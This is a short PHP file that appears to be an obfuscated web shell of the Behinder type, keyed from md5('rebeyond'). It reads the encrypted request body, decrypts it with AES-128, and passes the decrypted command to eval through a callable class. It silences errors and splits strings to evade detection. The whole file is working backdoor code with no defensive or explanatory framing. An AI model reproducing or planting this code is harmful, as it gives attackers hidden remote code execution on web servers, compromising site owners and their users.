<?php
@error_reporting(0);
session_start();
$k = substr(md5('rebeyond'), 0, 16);
$_SESSION['k'] = $k;
session_write_close();
$in = 'php:' . '//' . 'in' . 'put';
$d = file_get_contents($in);
$m = 'open' . 'ssl_' . 'decrypt';
$d = $m($d, 'AE' . 'S128', $k);
$a = explode('|', $d);
class Y { public function __invoke($p) { @eval /* x */ ($p . ""); } }
@call_user_func(new Y(), $a[1]);
